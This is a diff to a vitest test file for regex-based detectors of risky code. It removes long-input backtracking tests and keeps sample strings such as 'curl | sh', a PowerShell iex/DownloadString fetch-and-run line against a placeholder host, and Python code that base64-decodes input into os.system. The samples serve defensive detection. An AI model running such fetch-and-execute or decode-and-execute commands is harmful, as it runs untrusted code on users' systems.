@@ -1,5 +1,5 @@
-// The source detectors' texts read without catastrophic backtracking: the rewritten patterns and the hand reader answer
-// what the expressions they replace answered, on random texts and on the inputs that made those backtrack.
+// The source detectors' rewritten patterns and hand reader answer what the expressions they replace answered (the inputs
+// that made those backtrack run in a child under a deadline: test/redos/rewritten-patterns.test.ts).
 import { describe, expect, it } from 'vitest';
 import { assignedName, fetchPipeRun, pyExecDecoded } from './detectors-text.js';
 
@@ -32,11 +32,6 @@ describe('assignedName', () => {
     for (const s of ['x = 1', 'const cmd = "curl | sh"', 'a: b', '9x = 1', '99 = 1', '$ =', ' = x', '', 'no assignment', 'a = b = c', 'a = 1; b :  c', 'x=\n\ty', 'x\u00a0= y'])
       expect(assignedName(s), JSON.stringify(s)).toBe(reference(s));
   });
-
-  it('answers on the long run of names and white space the expression backtracked cubically over', () => {
-    expect(assignedName(`${'$'.repeat(50_000)}:${'\t'.repeat(50_000)}$:`)).toBe('$');
-    expect(assignedName(`${'a1'.repeat(50_000)}${' '.repeat(50_000)}`)).toBeUndefined();
-  });
 });
 
 describe('a download run by PowerShell', () => {
@@ -52,11 +47,6 @@ describe('a download run by PowerShell', () => {
       expect(hits(code), code).toHaveLength(1);
     expect(hits('iex (((New-Object Net.WebClient).DownloadString("http://x")))')).toEqual([]);
   });
-
-  it('answers on a long run of white space after iex (the expression backtracked cubically over it)', () => {
-    expect(hits(`iex${' '.repeat(50_000)}!`)).toEqual([]);
-    expect(hits(`iex${' '.repeat(50_000)}(${' '.repeat(50_000)}iwr http://x`)).toHaveLength(1);
-  });
 });
 
 describe('a Python helper that decodes and returns', () => {
@@ -65,11 +55,5 @@ describe('a Python helper that decodes and returns', () => {
   it('is an alias whatever white space its body lines start with', () => {
     expect(hits('import base64, os\ndef d(s):\n\t\n    return base64.b64decode(s)\nos.system(d("aWQ="))\n')).toBe(1);
     expect(hits('import base64, os\n  def d(s):\n  \t return base64.b64decode(s)\nos.system(d("aWQ="))\n')).toBe(1);
-  });
-
-  it('answers on a body line of nothing but tabs and no line end (the expression backtracked over it)', () => {
-    expect(hits(`def e():\n${'\t'.repeat(100_000)}`)).toBe(0);
-    // unclosed parameter lists: each was read to the end of the file
-    expect(hits('def\ne(\n'.repeat(60_000))).toBe(0);
   });
 });
